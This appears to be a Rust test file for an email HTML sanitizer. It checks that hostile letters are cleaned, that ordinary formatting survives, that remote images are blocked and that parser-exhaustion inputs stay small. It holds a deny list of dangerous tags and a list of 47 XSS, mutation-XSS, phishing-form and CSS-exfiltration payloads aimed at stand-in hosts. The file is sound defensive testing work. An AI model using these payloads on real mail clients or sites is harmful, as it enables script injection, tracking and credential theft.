use std::collections::HashMap;

use super::{RemoteImages, clean, from_text};

/// Nothing of these may be left of a hostile letter, in any case or spelling.
const DANGERS: [&str; 27] = [
    "<script",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<button",
    "<textarea",
    "<meta",
    "<base",
    "<link",
    "<svg",
    "<math",
    "<style",
    "<template",
    "<video",
    "<audio",
    "<map",
    "javascript:",
    "vbscript:",
    "onerror",
    "onload",
    "onclick",
    "url(",
    "@import",
    "expression(",
    "srcdoc",
];

const HOSTILE: [&str; 47] = [
    "<div style='background-color:url(https://evil.example/x)'>x</div>",
    "<div style='border-left:3px solid red;border-left:URL(https://evil.example/x)'>x</div>",
    "<blockquote cite='https://evil.example/x'>x</blockquote>",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/png;base64,AAAA' onload='alert(1)'>",
    "<body onload=alert(1)>x",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/api/session'>x</a>",
    "<form action='https://evil.example'><input name=p type=password><button>x</button></form>",
    "<textarea><script>alert(1)</script></textarea>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background-image:URL(\"https://evil.example/x\")'>x</div>",
    "<div style='background:u\\72l(https://evil.example)'>x</div>",
    "<div style='list-style:url(https://evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='color:red;background-color:image-set(\"https://evil.example\" 1x)'>x</div>",
    "<div style='--a:url(https://evil.example);background:var(--a)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>cover</div>",
    "<div style='color:red/*;*/;background:url(x)'>x</div>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<video src=x onerror=alert(1)><source src=x></video><audio src=x>",
    "<img srcset='https://evil.example/x 1x' src='cid:none'>",
    "<table background='https://evil.example/x'><tr><td background='https://evil.example/y'>x</table>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<input type=image src=https://evil.example/x><img dynsrc='https://evil.example'>",
];

#[test]
fn nothing_hostile_survives() {
    for letter in HOSTILE {
        let cleaned = clean(letter, RemoteImages::Block, HashMap::new()).html.to_lowercase();
        // What a browser would run or load is in tags; the same words as text are harmless.
        let tags: String =
            cleaned.split('<').skip(1).map(|t| format!("<{}", t.split('>').next().unwrap_or(""))).collect();
        for danger in DANGERS {
            assert!(!tags.contains(danger), "{danger} survives of {letter}: {cleaned}");
        }
        assert!(!tags.contains("evil.example"), "{letter}: {cleaned}");
        for property in ["position", "z-index", "--a", "api/session"] {
            assert!(!tags.contains(property), "{letter}: {cleaned}");
        }
    }
}

#[test]
fn an_ordinary_letter_keeps_its_looks() {
    let letter = "<p style=\"color: #c00; text-align: center\"><b>Kính gửi:</b> Sở Tài chính</p>\
        <table border=\"1\" cellpadding=\"4\"><tr><td colspan=\"2\" bgcolor=\"#eeeeee\">Báo cáo quý I</td></tr></table>\
        <a href=\"https://quangbinh.example/gm?a=1&amp;b=2\">Giấy mời</a>";
    let cleaned = clean(letter, RemoteImages::Block, HashMap::new()).html;
    for kept in [
        "color",
        "text-align:center",
        "<b>Kính gửi:</b>",
        "border=\"1\"",
        "colspan=\"2\"",
        "bgcolor=\"#eeeeee\"",
        "href=\"https://quangbinh.example/gm?a=1&amp;b=2\"",
        "target=\"_blank\"",
        "noopener",
    ] {
        assert!(cleaned.contains(kept), "{kept} is gone: {cleaned}");
    }
}

#[test]
fn pictures_of_other_servers_wait_for_the_reader() {
    let letter = "<img src=\"https://tracker.example/p.gif?id=7\" width=\"1\">";
    let blocked = clean(letter, RemoteImages::Block, HashMap::new());
    assert!(blocked.blocked_images && !blocked.html.contains("tracker"));
    let allowed = clean(letter, RemoteImages::Allow, HashMap::new());
    assert!(!allowed.blocked_images && allowed.html.contains("https://tracker.example/p.gif?id=7"));
}

#[test]
fn pictures_inside_the_letter_are_shown_and_unknown_ones_left_out() {
    let known = HashMap::from([("huy-hieu@qb".to_owned(), "data:image/png;base64,AAAA".to_owned())]);
    let cleaned = clean("<img src=\"cid:huy-hieu@qb\"><img src=\"cid:khac\">", RemoteImages::Block, known);
    assert!(cleaned.html.contains("data:image/png;base64,AAAA") && !cleaned.html.contains("cid:"));
    assert!(!cleaned.blocked_images);
}

#[test]
fn plain_text_is_escaped_and_linked() {
    let html = from_text(
        "Kính gửi <script>\nXem (https://qb.example/a?b=1&c=\"2\"x). Hỏi hanhttm.stttt@quangbinh.example.\n> cũ",
    );
    assert!(!html.contains("<script>") && html.contains("&lt;script&gt;"));
    assert!(html.contains("href=\"mailto:hanhttm.stttt@quangbinh.example\""), "{html}");
    assert!(html.contains("href=\"https://qb.example/a?b=1&amp;c=&quot;2&quot;x\""), "{html}");
    assert!(html.contains("class=\"quote\">&gt; cũ"));
}

#[test]
fn letters_made_to_exhaust_the_parser_stay_small() {
    // Every paragraph would repeat every open element before it: 25 million nodes.
    let mut exploding = String::new();
    for number in 0..7_000 {
        exploding.push_str(&format!("<p><B x={number}>a"));
    }
    let cleaned = clean(&exploding, RemoteImages::Block, HashMap::new());
    assert!(cleaned.html.len() < 2_000_000, "{} octets", cleaned.html.len());
    let deep = "<div>".repeat(100_000) + "Kính gửi";
    let cleaned = clean(&deep, RemoteImages::Block, HashMap::new());
    assert!(cleaned.html.len() < 1_000 && cleaned.html.contains("Kính gửi"));
}
